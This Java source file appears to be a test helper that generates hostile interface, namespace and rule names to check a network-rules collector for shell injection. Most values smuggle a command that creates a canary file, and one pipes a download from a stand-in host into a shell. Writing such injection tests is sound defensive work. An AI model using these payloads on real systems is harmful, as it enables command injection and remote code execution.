package dev.culprit.processor.rules;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;

/**
 * Names and comments anyone can give a namespace, interface, chain or rule ({@code unshare -Urn}
 * needs no privilege) and the collector samples as they are: shell syntax, quotes, line breaks,
 * globs, options, non-ASCII, the empty string. Those that inject try to create the canary.
 */
public final class HostileWords {

  private HostileWords() {}

  /** The fixed cases, then {@code random} more mixed from the same characters (seeded). */
  public static List<String> of(Path canary, int random) {
    String c = canary.toString();
    String touch = "touch " + c;
    LinkedHashSet<String> words = new LinkedHashSet<>();
    words.addAll(
        List.of(
            "x;" + touch,
            ";" + touch + ";",
            "x && " + touch,
            "x||" + touch,
            "x|" + touch,
            "x&" + touch,
            "$(" + touch + ")",
            "`" + touch + "`",
            "'$(" + touch + ")'",
            "\"$(" + touch + ")\"",
            "x';" + touch + ";'",
            "x\";" + touch + ";\"",
            "x\n" + touch,
            "x\r\n" + touch,
            "x;curl${IFS}http://198.51.100.1/x|sh;" + touch,
            ">" + c,
            "x>" + c,
            "<" + c,
            "#x\n" + touch,
            "x # y",
            "it's",
            "say \"hi\"",
            "'",
            "\"",
            "\\",
            "x\\",
            "\\'",
            "*",
            "?",
            "[a-z]*",
            "/*",
            "{a,b}",
            "~",
            "~root",
            "$HOME",
            "${IFS}",
            "$((1+1))",
            "!x",
            "-rf",
            "--help",
            "-",
            "x=y",
            "%s",
            "",
            " ",
            "a b",
            "\t",
            "a\u00a0b",
            "veth\u00e9\u00fc",
            "\u7f51\u5361",
            "\ud83d\ude00",
            "a\u2028b",
            "netns-4026531840-$(" + touch + ")"));
    Random rnd = new Random(20261206L);
    String[] parts = {
      ";", "&&", "|", "&", "$(", ")", "`", "'", "\"", "\n", "*", "?", "[", "]", "-", "\\", " ", "$",
      "{", "}", "#", "~", "=", ">", "<", "\u00e9", "a", "0", touch
    };
    while (words.size() < 53 + random) {
      StringBuilder w = new StringBuilder();
      int n = 1 + rnd.nextInt(6);
      for (int i = 0; i < n; i++) {
        w.append(parts[rnd.nextInt(parts.length)]);
      }
      words.add(w.toString());
    }
    return new ArrayList<>(words);
  }
}
